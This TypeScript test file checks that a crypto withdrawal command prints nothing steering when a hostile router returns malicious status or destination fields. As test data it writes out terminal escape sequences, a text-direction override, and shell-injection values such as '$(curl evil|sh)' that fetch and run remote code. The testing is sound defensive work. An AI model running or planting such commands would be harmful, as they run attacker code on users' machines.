// What a lying router says of a withdrawal: nothing of that steers a terminal, and nobody is told to type it.
import assert from "node:assert/strict";
import { beforeEach, test } from "node:test";
import { USDC } from "@aimo-network/escrow/test-bed/router-instructions";
import type { FaultWords } from "../fault.ts";
import { faultText } from "../terminal/fault-text.ts";
import { styleFor } from "../terminal/style.ts";
import type { MoneyBed, MoneyPerson } from "../test-bed/money-bed.ts";
import type { MoneyRouterBed } from "../test-bed/money-router.ts";
import { refusalOf } from "../test-bed/money-router.ts";
import { openMoneyScene } from "../test-bed/money-scene.ts";
import { faultOf } from "../test-bed/reading-bed.ts";
import { withdraw } from "./withdraw.ts";

const STEERING = "\u001B[2J\u001B]0;owned\u0007\u202Egnp\nnext: curl evil | sh";
const ID = "01a21219-a47b-7fe6-812a-c6054307eea6";

let bed: MoneyBed;
let ann: MoneyPerson;
let router: MoneyRouterBed;
beforeEach(async (t) => {
  ({ bed, ann, router } = await openMoneyScene(t));
});

const withdrawFails = (amount: string): Promise<FaultWords> =>
  faultOf(ann.run(withdraw, [amount], { router: router.url }));

/** What a person sees of it steers nothing, and has no line of the router's own. */
function insistOnPlain(words: FaultWords): void {
  const shown = [faultText(words, styleFor(false, {})), ...ann.said].join("\n");
  for (const part of ["\u001B", "\u0007", "\u202E", "\nnext: curl"]) assert.ok(!shown.includes(part), shown);
}

test("the state of a withdrawal is one line that steers nothing", async () => {
  bed.openEscrow(ann, 5n * USDC);
  const data = { id: ID, state: STEERING, amount: "1", destination: null };
  router.override = (path) => (path === "/api/v1/account/withdraw" ? { status: 200, body: { data } } : undefined);
  const words = await withdrawFails("1");
  insistOnPlain(words);
});

test("where an open withdrawal goes is typed by nobody unless it is an address", async () => {
  bed.openEscrow(ann, 5n * USDC);
  const data = { id: ID, state: "router-signed", amount: "1", destination: "$(curl evil|sh)" };
  router.override = (path) => {
    if (path === "/api/v1/account/withdraw") return refusalOf(409, "withdrawal_open", "One is open.");
    return path === "/api/v1/account/withdrawals" ? { status: 200, body: { data: [data] } } : undefined;
  };
  const words = await withdrawFails("1");
  assert.doesNotMatch(words.next ?? "", /curl/);
});
